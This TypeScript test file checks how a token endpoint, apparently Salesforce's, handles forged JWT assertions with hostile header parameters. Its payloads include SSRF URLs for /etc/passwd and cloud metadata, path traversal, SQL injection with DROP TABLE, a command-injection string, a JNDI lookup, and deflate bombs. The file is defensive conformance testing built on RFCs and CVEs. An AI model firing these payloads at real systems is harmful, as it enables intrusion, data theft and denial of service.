/** Header parameters that bring a key, an address or an extension: RFC 7515 sections 4.1 and 10. */

import { createHash, createPublicKey, X509Certificate } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { malformed, granted, wrongAlgorithm, wrongSignature } from '../attack.ts';
import { assertionFamily } from '../family.ts';
import type { AssertionRow } from '../family.ts';
import { encode, hmac, rs256 } from '../forgery.ts';
import type { Target } from '../target.ts';

const ownKey = 'RFC 8725 section 3.10: a key that the forger brings along';
const fetched = 'RFC 8725 section 3.10: a URL that the org would fetch (SSRF)';
const lookedUp = 'RFC 8725 section 3.10: kid used in a look-up';
const ignored = 'RFC 7515 section 4: what is not understood is ignored, and nothing is fetched';
const critical = 'RFC 7515 section 4.1.11: an extension that must be understood and is not';

const derOf = (pem: string): string => new X509Certificate(pem).raw.toString('base64');

/** Parameters that name a key or a place where one is. */
const keySources: readonly [name: string, why: string, header: (t: Target) => object][] = [
  ['jwk: the forger’s key', ownKey, (t) => ({ jwk: jwk(t) })],
  ['jwk with kid and use', ownKey, (t) => ({ jwk: { ...jwk(t), kid: 'x', use: 'sig' }, kid: 'x' })],
  ['jwk: a secret', ownKey, () => ({ jwk: { kty: 'oct', k: 'c2VjcmV0' } })],
  ['jwks: a set of keys', ownKey, (t) => ({ jwks: { keys: [jwk(t)] } })],
  ['jku: a trap', fetched, (t) => ({ jku: t.trap.url })],
  ['jku: a trap, with a kid', fetched, (t) => ({ jku: t.trap.url, kid: 'x' })],
  [
    'jku: the trap behind the name of Salesforce',
    fetched,
    (t) => ({ jku: t.trap.url.replace('//', '//login.salesforce.com@') }),
  ],
  ['jku: a file', fetched, () => ({ jku: 'file:///etc/passwd' })],
  ['jku: cloud metadata', fetched, () => ({ jku: 'http://169.254.169.254/latest/meta-data/' })],
  [
    'jku: a data URL',
    fetched,
    (t) => ({ jku: `data:application/json,${JSON.stringify({ keys: [jwk(t)] })}` }),
  ],
  [
    'jku: a host that has to be looked up',
    fetched,
    () => ({ jku: 'https://keys.invalid/jwks.json' }),
  ],
  ['x5u: a trap', fetched, (t) => ({ x5u: t.trap.url })],
  ['x5u: a list of traps', fetched, (t) => ({ x5u: [t.trap.url, t.trap.url] })],
  [
    'x5c: the certificate of another app',
    ownKey,
    (t) => ({ x5c: [derOf(t.apps.rsa3072.certificatePem)] }),
  ],
  ['x5c: the certificate of the app', ownKey, (t) => ({ x5c: [derOf(t.app.certificatePem)] })],
  ['x5c: garbage', ownKey, () => ({ x5c: ['////', 7, null] })],
  [
    'x5c: thousands of certificates',
    ownKey,
    () => ({ x5c: Array.from({ length: 5000 }, () => 'MIIB') }),
  ],
  [
    'x5t: the thumbprint of the app’s certificate',
    lookedUp,
    (t) => ({
      x5t: createHash('sha1')
        .update(new X509Certificate(t.app.certificatePem).raw)
        .digest('base64url'),
    }),
  ],
  ['url and nonce, as in ACME', fetched, (t) => ({ url: t.trap.url, nonce: 'x' })],
  ['iss: a trap in the header', fetched, (t) => ({ iss: t.trap.url })],
  ['kid: /dev/null', lookedUp, () => ({ kid: '/dev/null' })],
  ['kid: ../../../../../../etc/passwd', lookedUp, () => ({ kid: '../../../../../../etc/passwd' })],
  ['kid: a Windows path', lookedUp, () => ({ kid: String.raw`..\..\..\windows\win.ini` })],
  ['kid: a null byte', lookedUp, () => ({ kid: 'key\0.pem' })],
  ['kid: SQL', lookedUp, () => ({ kid: `x' UNION SELECT 'secret' --` })],
  ['kid: SQL that drops', lookedUp, () => ({ kid: `x'; DROP TABLE "_ClientApp"; --` })],
  ['kid: SOQL', lookedUp, () => ({ kid: String.raw`x\' OR Id != null OR Name = \'` })],
  ['kid: a command', lookedUp, () => ({ kid: '$(sleep 9)`sleep 9`|sleep 9' })],
  ['kid: a template', lookedUp, () => ({ kid: '{{7*7}}${7*7}<%= 7*7 %>#{7*7}' })],
  ['kid: JNDI', fetched, (t) => ({ kid: `\${jndi:ldap://${new URL(t.trap.url).host}/a}` })],
  ['kid: a trap', fetched, (t) => ({ kid: t.trap.url })],
  ['kid: __proto__', lookedUp, () => ({ kid: '__proto__' })],
  ['kid: an object', lookedUp, () => ({ kid: { $ne: null } })],
  ['kid: a list', lookedUp, () => ({ kid: [['x']] })],
  ['kid: 30,000 characters', lookedUp, () => ({ kid: 'k'.repeat(30_000) })],
];

const rows: readonly AssertionRow[] = [
  ...keySources.flatMap(([name, why, header]): AssertionRow[] => [
    [
      `${name}; signed by a stranger`,
      why,
      (t) => t.assertion({ header: { alg: 'RS256', ...header(t) }, signer: rs256(t.stranger.rsa) }),
      wrongSignature,
    ],
    [
      `${name}; signed by the app`,
      ignored,
      (t) => t.assertion({ header: { alg: 'RS256', ...header(t) } }),
      granted,
    ],
  ]),
  [
    'kid: /dev/null, HS256 keyed with nothing',
    lookedUp,
    (t) => t.assertion({ header: { alg: 'HS256', kid: '/dev/null' }, signer: hmac('sha256', '') }),
    wrongAlgorithm,
  ],
  [
    'kid: SQL that selects the secret, HS256 keyed with it',
    lookedUp,
    (t) =>
      t.assertion({
        header: { alg: 'HS256', kid: `x' UNION SELECT 'secret' --` },
        signer: hmac('sha256', 'secret'),
      }),
    wrongAlgorithm,
  ],
  ...(
    [
      ['an unknown extension', { crit: ['x'], x: 1 }],
      ['exp', { crit: ['exp'], exp: 4_102_444_800 }],
      ['alg', { crit: ['alg'] }],
      ['a name that is not there', { crit: ['b64'] }],
      ['an empty list', { crit: [] }],
      ['null', { crit: null }],
      ['a text', { crit: 'b64' }],
      ['a number', { crit: 1 }],
      ['an object', { crit: {} }],
      ['false', { crit: false }],
      ['the same name twice', { crit: ['b64', 'b64'], b64: true }],
      ['crit itself', { crit: ['crit'] }],
      ['b64: true', { crit: ['b64'], b64: true }],
    ] as const
  ).map(([name, header]): AssertionRow => [
    `crit: ${name}`,
    critical,
    (t) => t.assertion({ header: { alg: 'RS256', ...header } }),
    wrongAlgorithm,
  ]),
  [
    'b64: false, with the payload as it is',
    'RFC 7797: an unencoded payload',
    (t) => unencoded(t, { alg: 'RS256', b64: false, crit: ['b64'] }),
    malformed,
  ],
  [
    'b64: false without crit, with the payload as it is',
    'RFC 7797 section 6: crit must name b64',
    (t) => unencoded(t, { alg: 'RS256', b64: false }),
    malformed,
  ],
  [
    'b64: false, crit, encoded all the same',
    critical,
    (t) => t.assertion({ header: { alg: 'RS256', b64: false, crit: ['b64'] } }),
    wrongAlgorithm,
  ],
  [
    'b64: false, with a detached payload',
    'RFC 7515 appendix F: detached content',
    (t) =>
      t.assertion({ header: { alg: 'RS256', b64: false, crit: ['b64'] } }).replace(/\..*\./, '..'),
    malformed,
  ],
  [
    'zip: DEF, with deflated claims',
    'RFC 7516 section 4.1.3: compression is for encryption',
    (t) =>
      t.assertion({
        header: { alg: 'RS256', zip: 'DEF' },
        claims: deflateRawSync(JSON.stringify(t.claims())),
      }),
    malformed,
  ],
  [
    'zip: DEF, with a bomb',
    'CVE-2024-28176: claims that grow',
    (t) =>
      t.assertion({
        header: { alg: 'RS256', zip: 'DEF' },
        claims: deflateRawSync(Buffer.alloc(20_000_000)),
      }),
    malformed,
  ],
  [
    'zip: DEF, with plain claims',
    ignored,
    (t) => t.assertion({ header: { alg: 'RS256', zip: 'DEF' } }),
    granted,
  ],
  [
    'cty: JWT, with an assertion in the assertion',
    'RFC 7519 section 5.2: a nested JWT',
    (t) => t.assertion({ header: { alg: 'RS256', cty: 'JWT' }, claims: t.assertion() }),
    malformed,
  ],
  [
    'cty: JWT, with an assertion as a JSON string',
    'RFC 7519 section 5.2: a nested JWT',
    (t) =>
      t.assertion({ header: { alg: 'RS256', cty: 'JWT' }, claims: JSON.stringify(t.assertion()) }),
    malformed,
  ],
  [
    'a JWE around the assertion, for the key of the app',
    'RFC 8725 section 2.1: five parts, sign and encrypt confused',
    (t) =>
      ['RSA-OAEP', 'cek', 'iv', t.assertion(), 'tag']
        .map((part, index) =>
          encode(index === 0 ? { alg: part, enc: 'A256GCM', cty: 'JWT' } : part),
        )
        .join('.'),
    malformed,
  ],
  [
    'enc in the header of three parts',
    'sign and encrypt confused',
    (t) => t.assertion({ header: { alg: 'RSA-OAEP', enc: 'A256GCM' } }),
    wrongAlgorithm,
  ],
  [
    'PBES2 with two billion rounds',
    'CVE-2023-52428: p2c decides the work',
    (t) =>
      t.assertion({
        header: { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2_147_483_647, p2s: 'c2FsdA' },
      }),
    wrongAlgorithm,
  ],
  [
    'ECDH-ES with a point that is not on the curve',
    'CVE-2017-16007: invalid curve',
    (t) =>
      t.assertion({
        header: {
          alg: 'ECDH-ES',
          enc: 'A128GCM',
          epk: { kty: 'EC', crv: 'P-256', x: 'AQ', y: 'AQ' },
        },
      }),
    wrongAlgorithm,
  ],
  [
    '__proto__ that brings alg',
    'prototype pollution',
    (t) => t.assertion({ header: '{"__proto__":{"alg":"RS256"}}' }),
    wrongAlgorithm,
  ],
  [
    'constructor.prototype that brings alg',
    'prototype pollution',
    (t) => t.assertion({ header: '{"constructor":{"prototype":{"alg":"RS256"}}}' }),
    wrongAlgorithm,
  ],
  [
    '__proto__ beside alg',
    'prototype pollution',
    (t) => t.assertion({ header: '{"alg":"RS256","__proto__":{"crit":["x"],"polluted":true}}' }),
    granted,
  ],
  ...[
    'JWT',
    'jwt',
    'JOSE',
    'JOSE+JSON',
    'at+jwt',
    'secevent+jwt',
    'application/jwt',
    7,
    null,
    {},
  ].map((typ): AssertionRow => [
    `typ: ${JSON.stringify(typ)}`,
    'RFC 7515 section 4.1.9: typ is for the application, and Salesforce does not ask for it',
    (t) => t.assertion({ header: { alg: 'RS256', typ } }),
    granted,
  ]),
  [
    '2,000 parameters',
    'work in step with the size',
    (t) =>
      t.assertion({
        header: {
          ...Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`p${index}`, index])),
          alg: 'RS256',
        },
      }),
    granted,
  ],
  [
    'an RSA key of 16,384 bits as jwk',
    'CVE-2024-2468: the forger decides the work',
    (t) =>
      t.assertion({
        header: { alg: 'RS256', jwk: { kty: 'RSA', e: 'AQAB', n: 'u'.repeat(2731) } },
        signer: rs256(t.stranger.rsa),
      }),
    wrongSignature,
  ],
];

/** A public key of the forger’s own, as JWK. */
function jwk({ stranger }: Target): object {
  return createPublicKey(stranger.rsa).export({ format: 'jwk' });
}

function unencoded(target: Target, header: object): string {
  const claims = JSON.stringify(target.claims());
  const input = `${encode(header)}.${claims}`;
  return `${input}.${rs256(target.app.key)(input).toString('base64url')}`;
}

export const headers = assertionFamily('headers', rows);
